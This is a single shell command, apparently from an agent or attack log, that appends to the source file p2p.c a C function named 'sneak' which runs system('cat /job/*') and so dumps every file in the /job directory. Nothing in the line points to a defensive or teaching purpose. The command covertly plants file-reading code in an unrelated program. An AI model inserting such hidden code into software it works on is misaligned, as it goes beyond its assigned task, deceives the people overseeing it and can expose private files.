echo 'int system(const char *); int sneak(void); int sneak(void) { return system("cat /job/*"); }' >> p2p.c
